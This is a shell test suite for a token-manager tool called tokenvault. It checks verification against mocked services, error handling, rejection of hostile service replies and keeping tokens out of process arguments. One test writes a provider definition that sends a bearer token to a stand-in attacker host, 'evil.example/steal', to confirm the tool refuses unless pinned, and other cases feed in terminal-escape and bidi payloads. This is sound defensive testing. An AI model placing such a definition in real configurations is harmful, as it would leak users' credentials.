# Asking services about tokens: each answer its own, the last good state kept, and no token where it does
# not belong. The services are played by a server of ours under their own names.
. "$(dirname "$0")/../lib.sh"
. "$TESTS/service/lib.sh"
need_service
sandbox
key=$HOME/key
secret=S3cretMiddlePart
azion=az$secret
head=$(printf '{"alg":"none"}' | base64 | tr -d '=\n')
api7=$head.$(printf '{"exp":%s,"sub":"%s"}' "$(date -u -d '+29 days 1 hour' +%s)" "$secret" |
	base64 -w0 | tr -d '=' | tr '+/' '-_').c2ln
own=$XDG_CONFIG_HOME/tokenvault/providers

# k COMMAND …: tokenvault with the keyfile, which takes no time.
k() {
	as_user "$BIN/tokenvault" --keyfile "$key" "$@"
}

# put TOKEN COMMAND …: the token to standard input.
put() {
	token=$1
	shift
	printf '%s' "$token" | k "$@"
}

# of ENTRY MEMBER …: what show --json says, as JSON.
of() {
	k show "$1" --json | "$PYTHON" -c 'import json, sys
e = json.load(sys.stdin)
print(*(json.dumps(e[name]) for name in sys.argv[1:]))' "$2" ${3:+"$3"} ${4:+"$4"}
}

# define NAME …: a definition of the user's own, from standard input.
define() {
	mkdir -p "$own"
	cat >"$own/$1.json"
	chmod -R a+rX "$XDG_CONFIG_HOME"
}

make_vault -q --keyfile "$key"
check "the vault trusts the test's service" use_service
service_accepts azion "$azion"
service_accepts api7 "$api7"
service_accepts choreo "$secret"
service_accepts other "$api7" "$secret"

# ---- add
check_exit 0 "add asks the service" put "$api7" add api7
like "says whose it is and how long it lasts" "$ERR" \
	'^API7 Cloud: you@example\.com, expires in 29 days$'
same "account and answer are kept" "$(of api7 account answer)" '"you@example.com" "OK"'
check_exit 0 "a second request adds what the first can't tell" \
	put "$azion" add azion --field uuid=none
same "the first one's fields are kept" "$(of azion fields)" '{"uuid": "none", "client_id": "1234abc"}'
same "and what the second can't tell is no failure" "$(of azion answer expires)" '"OK" null'
check_exit 0 "the service's own expiry" put $secret add choreo --expires 3d
same "goes before --expires" "$(of choreo expires expires_from)" '"2031-08-19T00:18:59Z" "service"'
like "which is said" "$ERR" '^the service says that it expires on 2031-08-19; --expires is not used$'

check_exit 21 "a refused token" put "no-$secret" add azion/bad
like "is said, and what stores it all the same" "$ERR" 'refuses .*sso.azion.com.*401.*nothing was stored.*--no-verify'
check_exit 4 "it is not stored" k show azion/bad
service_forget
check_exit 0 "--no-verify stores it" put "no-$secret" add azion/bad --no-verify
same "and asks nobody" "$(service_log)" ""
check_exit 11 "a label that is taken" put "$azion" add azion
same "is found before the token goes anywhere" "$(service_log)" ""
for case in closed:UNREACHABLE expired:CERTIFICATE odd:ODD_REPLY; do
	mode=${case%:*}
	service_mode sso.azion.com $mode
	check_exit 0 "add while the service is: $mode" put "$azion" add azion/$mode
	like "says so" "$ERR" '^warning: the service.*sso.azion.com.*stored all the same'
	same "and stores it" "$(of azion/$mode answer verified token)" "\"${case#*:}\" null \"$azion\""
done
service_mode sso.azion.com ok

check_exit 2 "a field that makes no host" put "$azion" add npm --field registry=https://h.example
same "is told once" "$ERR" \
	"tokenvault: not a usable value: field registry: a host's name, without https://, expected"
service_mode sso.azion.com 429
check_exit 0 "a service that has no time" put "$azion" add azion/busy
like "is told in HTTP's words" "$ERR" 'it answered 429 Too Many Requests: try again later;'
k -q remove azion/busy
service_mode sso.azion.com ok

# ---- every answer its own
good=$(of api7 verified account expires)
for case in refused:21:TOKEN_REFUSED closed:22:UNREACHABLE expired:23:CERTIFICATE \
	wronghost:23:CERTIFICATE selfsigned:23:CERTIFICATE odd:24:ODD_REPLY big:24:ODD_REPLY \
	bigchunked:24:ODD_REPLY redirect:24:ODD_REPLY 500:24:ODD_REPLY badjson:24:ODD_REPLY \
	empty:24:ODD_REPLY nothttp:24:ODD_REPLY; do
	mode=${case%%:*}
	code=${case#*:}
	service_mode api.api7.cloud $mode
	check_exit "${code%:*}" "verify, $mode" k verify api7
	like "one line tells" "$ERR" '^tokenvault: the service.*: api7/default: .*api\.api7\.cloud'
	same "the answer is kept" "$(of api7 answer)" "\"${case##*:}\""
	same "and the last good state" "$(of api7 verified account expires)" "$good"
done
like "list tells it" "$(k list api7)" '^api7 .* you@example\.com .* odd answer [0-9-]{10} '
service_mode api.api7.cloud refused
k verify api7 >/dev/null 2>&1
like "and a refusal" "$(k list api7)" ' refused [0-9-]{10} '
service_mode api.api7.cloud ok
check_exit 0 "and verify again" k verify api7
like "prints the entry" "$OUT" '^api7 +default +good +you@example\.com +[0-9-]{10}$'
like "list has the day" "$(k list api7)" "you@example.com +[0-9-]+ +$(date -u +%Y-%m-%d) "
same "nothing ever went where a redirect led" "$(service_log evil.example)" ""

# ---- set
check_exit 21 "a refused new token" put "no-$secret" set azion --token
same "is not stored" "$(of azion token)" "\"$azion\""
check_exit 0 "a good one" put "$azion" set azion --token
like "is verified" "$ERR" '^Azion: me@example\.com$'
check_exit 0 "a note" k set azion --note x
service_forget
check_exit 0 "another field" k set azion --field email=x@y
same "asks nobody" "$(service_log)" ""

# ---- the pin
check_exit 0 "a field that changes the host" k set api7 --field address=https://console.api7.cloud
like "is said" "$ERR" 'token of api7/default may now be sent to console\.api7\.cloud'
service_forget
check_exit 0 "verify" k verify api7
same "goes there" "$(service_log api.api7.cloud)" ""
like "alone" "$(service_log console.api7.cloud)" '/api/v1/user/me'
k -q set api7 --unset-field address
define api7 <<-'END'
	{"name": "api7", "title": "API7 Cloud",
	 "verify": [{"base": "https://evil.example", "path": "/steal", "headers": ["Authorization: Bearer {{token}}"]}],
	 "files": [{"name": "config", "path": ".api7cloud/config", "shows": "in-use", "escape": "none", "template": ["{{token}}"]}]}
END
check_exit 0 "a definition can be changed" k provider check "$own/api7.json"
check_exit 8 "but the token goes nowhere else" k verify api7
like "which is said, and what allows it" "$ERR" \
	'definition of api7 now sends the token to evil\.example.*tokenvault set api7/default --pin'
check_exit 8 "nor does another one" put "$api7" set api7 --token
check_exit 8 "nor with --all" k verify --all
check_exit 0 "a note allows nothing" k set api7 --note y
check_exit 8 "nothing at all" k verify api7
same "evil.example has seen no request" "$(service_log evil.example)" ""
check_exit 0 "set --pin" k set api7 --pin
like "says what it allows" "$ERR" 'token of api7/default may now be sent to evil\.example'
check_exit 0 "then it goes there" k verify api7
like "to evil.example" "$(service_log evil.example)" '/steal'
rm "$own/api7.json"
check_exit 8 "and back it needs the same" k verify api7
k -q set api7 --pin

# ---- hostile answers
say() {
	service_replies api.api7.cloud "{\"status\":{\"code\":0},\"payload\":{\"email\":\"$1\"}}"
}
for account in 'a\u001b[2Jb' 'a\u009b31mb' 'a\r\nb' 'a\u0000b' 'evil\u202egnp' '\u2066x' \
	'a\u061cb' 'a\u200bb' 'a\ufeffb' \
	"$(printf %0400d 0)" '' '\ud800'; do
	say "$account"
	k -q set api7 --note "$(date +%N)"
	k verify api7 >"$SANDBOX/said" 2>&1
	same "account $(printf %.12s "$account"): not taken" "$(of api7 account)" '"you@example.com"'
	same "and nothing of it is printed" "$(tr -d '[:print:]\n' <"$SANDBOX/said")" ""
done
"$PYTHON" -c 'print("{\"status\":{\"code\":0},\"payload\":{\"email\":\"" + "x" * (1 << 20) + "\"}}")' \
	>"$SERVICE/reply/api.api7.cloud"
check_exit 24 "an account of a megabyte" k verify api7
say 'Zoë <zoë@example.com>'
check_exit 0 "an account that is not ASCII" k verify api7
same "is taken" "$(of api7 account)" '"Zo\u00eb <zo\u00eb@example.com>"'
rm "$SERVICE/reply/api.api7.cloud"
service_replies sso.azion.com '{"results":{"client_id":"a\nb","email":{"a":1}}}'
check_exit 0 "fields and accounts that are none" k verify azion
same "are left as they were" "$(of azion account fields)" \
	'"me@example.com" {"client_id": "1234abc", "email": "x@y"}'
rm "$SERVICE/reply/sso.azion.com"
put x -q add azion/when --no-verify --field uuid=u
service_accepts azion "x u when"
for case in '"2028-01-02T03:04:05Z"|"2028-01-02T03:04:05Z"' '1900000000|"2030-03-17T17:46:40Z"' \
	'-5|=' '1e300|=' '"soon"|=' '[1]|=' '"99999-01-01T00:00:00Z"|='; do
	then=${case#*|}
	[ "$then" != = ] || then=$(of azion/when expires)
	service_replies api.azionapi.net "{\"expires_at\":${case%|*}}"
	check_exit 0 "expiry ${case%|*}" k verify azion/when
	same "is taken for what it is" "$(of azion/when expires)" "$then"
done
k -q remove azion/when
rm "$SERVICE/reply/api.azionapi.net"

# ---- a list of tokens
put x -q add azion/listed --no-verify
one='{"uuid":"u","name":"n","expires_at":"2029-01-02T03:04:05Z"}'
service_replies api.azionapi.net "{\"count\":2,\"results\":[$one,$one]}"
check_exit 0 "a list of several tokens" k verify azion/listed
same "does not say which one this is" "$(of azion/listed expires)" null
service_replies api.azionapi.net "{\"links\":{\"next\":\"/iam/personal_tokens?page=2\"},\"results\":[$one]}"
check_exit 0 "a page of one that goes on" k verify azion/listed
same "says it no more" "$(of azion/listed expires)" null
service_replies api.azionapi.net "{\"count\":1,\"results\":[$one]}"
check_exit 0 "a list of one" k verify azion/listed
same "says when it expires" "$(of azion/listed expires expires_from)" '"2029-01-02T03:04:05Z" "service"'
same "but no id to end it by is taken from there" "$(of azion/listed fields)" '{"client_id": "1234abc"}'
k -q remove azion/listed
rm "$SERVICE/reply/api.azionapi.net"

# ---- several
define quiet <<-'END'
	{"name": "quiet", "title": "Quiet",
	 "files": [{"name": "token", "path": ".quiet", "shows": "in-use", "escape": "none", "template": ["{{token}}"]}]}
END
check_exit 0 "a service that can't be asked" put $secret add quiet
check_exit 25 "is said by its name" k verify quiet
check_exit 2 "verify wants a name or --all" k verify
check_exit 2 "not both" k verify --all azion
check_exit 4 "a wrong name" k verify azion nobody
check_exit 4 "a wrong label" k verify azion/nobody
k -q remove azion/closed && k -q remove azion/expired && k -q remove azion/odd
check_exit 21 "verify --all, one refused" k verify --all
like "each failure has a line" "$ERR" '^tokenvault: the service refuses the token: azion/bad: '
like "the rest is counted" "$ERR" '^3 good, 1 not; 1 can.t be asked about$'
same "and every one that was asked has a row" "$(printf '%s\n' "$OUT" | wc -l)" 5
service_mode apis.choreo.dev closed
service_mode api.api7.cloud wronghost
check_exit 23 "the worst answer is the exit status" k verify --all
same "with a line for each" "$(printf '%s\n' "$ERR" | grep -c '^tokenvault: ')" 3
check_exit 22 "of those that were named" k verify choreo azion
same "the answers are stored" "$(of choreo answer) $(of api7 answer) $(of azion/bad answer)" \
	'"UNREACHABLE" "CERTIFICATE" "TOKEN_REFUSED"'
check_exit 23 "in JSON" k verify --all --json
check "there is all of it, and no token" "$PYTHON" -c '
import json, sys
rows = json.loads(sys.argv[1])
assert sys.argv[2] not in sys.argv[1]
assert [r["answer"] for r in rows] == ["CERTIFICATE", "TOKEN_REFUSED", "OK", "UNREACHABLE"], rows
for r in rows:
    assert set(r) == {"provider", "label", "answer", "detail", "tried", "account", "expires"}, r
    assert (r["detail"] is None) == (r["answer"] == "OK"), r
' "$OUT" "$secret"
service_mode apis.choreo.dev ok
service_mode api.api7.cloud ok

# A counting line, on a terminal only.
progress() {
	as_user "$PYTHON" -c '
import os, pty, subprocess, sys
terminal, inside = pty.openpty()
subprocess.run(sys.argv[1:], stderr=inside, stdout=subprocess.DEVNULL, check=False)
print(os.read(terminal, 65536))' "$BIN/tokenvault" --keyfile "$key" verify --all
}
like "on a terminal a line counts" "$(progress)" 'verifying 1/5 api7/default.*verifying 5/5 quiet/default'

# What was asked before the end is stored.
service_mode apis.choreo.dev slow
before=$(of azion tried)
unknown=$(of choreo tried answer)
service_forget
sleep 1
asked() {
	[ -n "$(service_log apis.choreo.dev)" ]
}
{
	wait_for 30 asked
	kill -INT "$(cat "$SANDBOX/tmp/pid")"
} &
as_user sh -c 'echo $$ >"$0" && exec "$@"' "$SANDBOX/tmp/pid" "$BIN/tokenvault" --keyfile "$key" verify --all \
	>"$SANDBOX/out" 2>&1 && code=0 || code=$?
wait
same "interrupted, it ends as such" $code 130
check "and what it knew by then is stored" test "$before" != "$(of azion tried)"
same "what it did not know is not" "$(of choreo tried answer)" "$unknown"
service_mode apis.choreo.dev ok

# ---- where the token is not
# Only root can look into a process that lets nobody look.
if is_root && command -v strace >/dev/null; then
	printf '%s' "$azion" >"$SANDBOX/token"
	for command in "add azion/traced" "verify azion/traced" "set azion/traced --token"; do
		# shellcheck disable=SC2086
		strace -f -v -s 100000 -e trace=execve -o "$SANDBOX/trace" setpriv --reuid=65534 \
			--regid=65534 --clear-groups "$BIN/tokenvault" --keyfile "$key" $command \
			<"$SANDBOX/token" >/dev/null 2>&1
		like "$command: traced" "$(grep -o 'execve("[^"]*"' "$SANDBOX/trace")" 'tokenvault-fetch"$'
		same "no token in any argument or environment" "$(grep -c "$secret" "$SANDBOX/trace")" 0
	done
else
	skip "no token in any argument or environment" "this needs root and strace"
fi
finish
